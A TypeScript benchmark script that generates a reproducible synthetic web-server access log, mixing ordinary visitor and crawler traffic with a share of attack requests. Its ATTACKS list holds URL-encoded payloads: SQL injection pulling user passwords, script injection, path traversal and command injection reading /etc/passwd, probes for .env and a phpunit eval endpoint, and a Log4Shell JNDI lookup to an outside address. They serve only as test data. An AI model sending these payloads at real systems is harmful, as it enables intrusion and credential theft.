/**
 * Writes a log that looks like a busy site's: `node bench/make-log.ts LINES [SEED] [ATTACK_SHARE] > access.log`. The same
 * arguments give the same bytes. Visitors come in sessions and read pages with their pictures, crawlers come by, a share
 * of the requests are attacks of several kinds, from addresses of their own.
 */

export interface LogOptions {
  readonly lines: number;
  readonly seed: number;
  /** 0 to 1. */
  readonly attackShare: number;
  readonly addresses: number;
  /** Longest time between two requests; the shortest is none. */
  readonly stepMs: number;
}

const DEFAULTS: LogOptions = { lines: 100_000, seed: 1, attackShare: 0.01, addresses: 23_000, stepMs: 120 };
const START = Date.UTC(2026, 9, 1);
const MONTHS = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ');
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (compatible; SearchBot/2.1; +https://search.example/bot.html)',
];
const WORDS =
  'lamp desk table union select order house garden light paper blue green winter sale new old rock roll'.split(' ');
const PICTURES = ['/css/style.css', '/js/site.js', '/img/logo.svg', '/img/header.jpg', '/favicon.ico'];
const ATTACKS = [
  '/item.php?id=1%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--%20-',
  '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '/cgi-bin/..%2f..%2f..%2fetc%2fpasswd',
  '/.env',
  '/wp-login.php',
  '/index.php?cmd=cat%20/etc/passwd%3Bid',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/?x=${jndi:ldap://203.0.113.200/a}',
];

/** Chunks of about 64 KiB. */
export function* makeLog(given: Partial<LogOptions> = {}): Generator<string> {
  const { lines, seed, attackShare, addresses, stepMs } = { ...DEFAULTS, ...given };
  const random = randomOf(seed);
  const pick = <T>(from: readonly T[]) => from[Math.floor(random() * from.length)] as T;
  let time = START;
  let chunk = '';
  for (let i = 0; i < lines; i++) {
    time += Math.floor(random() * stepMs);
    const isAttack = random() < attackShare;
    const address = Math.floor(random() * (isAttack ? Math.max(addresses / 200, 1) : addresses));
    const client = isAttack
      ? `198.51.${100 + (address >> 8)}.${address & 255}`
      : `10.${address >> 16}.${(address >> 8) & 255}.${address & 255}`;
    const page = `/${pick(WORDS)}/${Math.floor(random() * 400)}`;
    const target = isAttack
      ? pick(ATTACKS)
      : random() < 0.5
        ? pick(PICTURES)
        : random() < 0.2
          ? `/search?q=${pick(WORDS)}+${pick(WORDS)}&page=${Math.floor(random() * 9)}`
          : page;
    const status = isAttack ? pick([200, 404, 403]) : random() < 0.97 ? 200 : pick([301, 304, 404]);
    const size = 200 + Math.floor(random() * 60_000);
    const referer = random() < 0.4 ? '-' : `https://www.shop.example${page}`;
    chunk += `${client} - - [${stamp(time)}] "GET ${target} HTTP/1.1" ${status} ${size} "${referer}" "${AGENTS[address % AGENTS.length]}"\n`;
    if (chunk.length > 65_536) {
      yield chunk;
      chunk = '';
    }
  }
  yield chunk;
}

function stamp(ms: number): string {
  const date = new Date(ms);
  const two = (value: number) => String(value).padStart(2, '0');
  const clock = `${two(date.getUTCHours())}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())}`;
  return `${two(date.getUTCDate())}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}:${clock} +0000`;
}

/** mulberry32: small, fast, the same everywhere. */
function randomOf(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

if (import.meta.main) {
  const [lines = DEFAULTS.lines, seed = DEFAULTS.seed, attackShare = DEFAULTS.attackShare] = process.argv
    .slice(2)
    .map(Number);
  for (const chunk of makeLog({ lines, seed, attackShare })) {
    if (!process.stdout.write(chunk)) await new Promise((resolve) => process.stdout.once('drain', resolve));
  }
}
